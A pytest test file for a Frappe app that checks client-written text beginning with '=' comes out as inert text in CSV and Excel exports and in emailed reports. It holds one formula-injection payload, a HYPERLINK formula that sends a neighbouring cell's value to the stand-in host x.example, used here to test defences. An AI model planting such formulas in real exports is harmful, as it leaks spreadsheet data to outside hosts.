"""What a client wrote stays a text in each file that Frappe makes of rows: as a formula, it could send what stands beside it (D-5)."""

import csv
import json
from io import BytesIO, StringIO

import frappe
import openpyxl
import pytest
from frappe.core.doctype.data_import import importer
from frappe.utils.response import build_response

from client_comms.enforcement import compose

pytestmark = pytest.mark.clause("D-5")

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"Open")'
IMPORTS = "frappe.core.doctype.data_import.data_import"


@pytest.fixture
def answered(request_as):
	"""`answered(method, …)`: the file that a request gets."""

	def ask(method, **asked):
		request_as("Administrator", method, **asked)
		return build_response("json").get_data()

	return ask


@pytest.fixture
def emailed(log):
	def make(file_format):
		report = {"doctype": "Report", "report_name": "Subjects", "ref_doctype": "Client Interaction"}
		fields = [["name", "Client Interaction"], ["subject", "Client Interaction"]]
		kind = {
			"report_type": "Report Builder",
			"is_standard": "No",
			"json": frappe.as_json({"fields": fields}),
		}
		frappe.get_doc({**report, **kind}).insert()
		sent = {"doctype": "Auto Email Report", "report": "Subjects", "report_type": "Report Builder"}
		to = {"user": "Administrator", "email_to": "ann@example.org", "frequency": "Daily", "filters": "{}"}
		return frappe.get_doc({**sent, **to, "format": file_format}).insert()

	return make


def cells(content) -> list[str]:
	content = content.encode() if isinstance(content, str) else content
	if not content.startswith(b"PK"):
		return [cell for row in csv.reader(StringIO(content.decode())) for cell in row]
	sheet = openpyxl.load_workbook(BytesIO(content)).active
	assert "f" not in {cell.data_type for row in sheet for cell in row}
	return [str(cell.value) for row in sheet for cell in row]


def assert_text(content):
	begins = "=HYPERLINK" if content[:2] in (b"PK", "PK") else "'=HYPERLINK"
	(found,) = [cell for cell in cells(content) if "HYPERLINK" in cell]
	assert found.startswith(begins)


FIELDS = json.dumps({"Client Interaction": ["name", "subject"]})


@pytest.mark.parametrize("file_format", ["Excel", "CSV"])
@pytest.mark.parametrize(
	("method", "asked"),
	[
		(f"{IMPORTS}.download_template", {"export_fields": FIELDS, "export_records": "all"}),
		(
			"frappe.core.doctype.data_export.exporter.export_data",
			{"select_columns": FIELDS, "with_data": 1, "template": 0, "all_doctypes": 0},
		),
	],
)
def test_in_an_export(method, asked, file_format, answered, log):
	doc = log("Initial Inquiry")
	doc.db_set("subject", FORMULA)
	named = json.dumps({"name": doc.name})
	assert_text(
		answered(
			method, doctype=doc.doctype, file_type=file_format, filters=named, export_filters=named, **asked
		)
	)


@pytest.mark.parametrize("file_format", ["XLSX", "CSV"])
def test_in_an_emailed_report(file_format, emailed, answered, log):
	log("Initial Inquiry").db_set("subject", FORMULA)
	made = emailed(file_format)
	assert_text(made.get_report_content())
	assert_text(answered("frappe.email.doctype.auto_email_report.auto_email_report.download", name=made.name))


def test_what_another_method_makes_is_as_it_made_it(answered):
	"""Files of other apps may have formulas on purpose, or be read by machines."""
	sent = answered(
		"frappe.utils.csvutils.send_csv_to_client", args={"data": [["=SUM(A1:A2)"]], "filename": "a"}
	)
	assert cells(sent) == ["=SUM(A1:A2)"]


def test_an_import_brings_a_text_back_as_it_was():
	content = b"Subject,Amount\n'=A1,-5\n'@home,'quoted'\n"
	compose.stand_around()
	assert importer.read_csv_content(content)[1:] == [["=A1", "-5"], ["@home", "'quoted'"]]
